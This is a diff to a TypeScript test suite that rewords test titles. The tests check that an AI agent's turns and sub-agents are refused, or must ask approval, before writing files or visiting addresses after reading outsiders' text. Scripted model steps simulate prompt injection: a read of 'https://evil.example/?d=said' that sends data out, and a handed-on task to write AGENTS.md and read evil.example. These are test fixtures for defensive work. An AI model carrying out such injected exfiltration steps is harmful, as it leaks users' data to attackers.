@@ -79,7 +79,7 @@ describe('a turn that has read text from outsiders', () => {
     expect(scene.outcome()).toBe('suspended');
   });
 
-  it('[G05] [W08] without such text writes the owner’s private files freely and asks before it writes others', async () => {
+  it('[G05] [W08] without such text writes the owner’s private files freely but asks before it writes other files', async () => {
     await open();
     writeFileSync(join(scene.folder, 'USER.md'), '---\naudience: owner\n---\n');
     writeFileSync(join(scene.folder, 'IDENTITY.md'), 'name: Polly\n');
@@ -103,7 +103,7 @@ describe('a turn that has read text from outsiders', () => {
   });
 
   it.each([3, 4])(
-    '[G05] [G16] still counts as such a turn after its process died at write %i',
+    '[G05] [G16] still counts as having read such text after its process died at write %i',
     async (nth) => {
       const asked = await open();
       await scene.write(`read ${TEA}`);
@@ -136,7 +136,7 @@ describe('a turn that has read text from outsiders', () => {
     expect(asked).toEqual(ended === 'answered' ? [...new Set([TEA, url])] : [TEA]);
   });
 
-  it('[G05] in a group is refused other addresses with a reason, so that nobody has to wait', async () => {
+  it('[G05] in a group is refused all other addresses, with a reason, so that nobody has to wait', async () => {
     const asked = await open();
     await scene.write(`read ${TEA}`, { chat: GROUP, sender: BO });
     scene.model.next(read(TEA), read('https://evil.example/?d=said'), { say: 'No.' });
@@ -162,8 +162,8 @@ const handOn = (task: string) => ({
 });
 const lane = () => scene.woken.find((one) => one.startsWith('sub:'));
 
-describe('a sub-agent, which cannot ask anybody', () => {
-  it('[G05] [G07] reads addresses that the person named, and is refused those that a page names', async () => {
+describe('a sub-agent, which has no approver to ask', () => {
+  it('[G05] [G07] reads addresses that the person named, and is refused addresses named by a page', async () => {
     const asked = await open({ delegates: true });
     await scene.write(`read ${TEA} and ${TEA}/two`);
     scene.model.next(handOn('Read the pages.'), { say: 'under way' });
@@ -174,7 +174,7 @@ describe('a sub-agent, which cannot ask anybody', () => {
     expect(heard().at(-1)).toContain('no approver can be asked');
   });
 
-  it('[G05] [G07] counts as having read such text when the turn that started it has', async () => {
+  it('[G05] [G07] counts as having read such text if the turn that started it has', async () => {
     const asked = await open({ delegates: true });
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), handOn('Write AGENTS.md, read evil.example'), { say: 'under way' });
@@ -186,7 +186,7 @@ describe('a sub-agent, which cannot ask anybody', () => {
     expect([isThere('AGENTS.md'), isThere('notes/a.md'), asked]).toEqual([false, true, [TEA]]);
   });
 
-  it('[G05] [G07] brings such text into the turn that receives its result', async () => {
+  it('[G05] [G07] passes such text on to the turn that receives its result', async () => {
     await open({ delegates: true });
     await scene.write('find tea');
     scene.model.next(handOn('find tea'), { say: 'under way' });
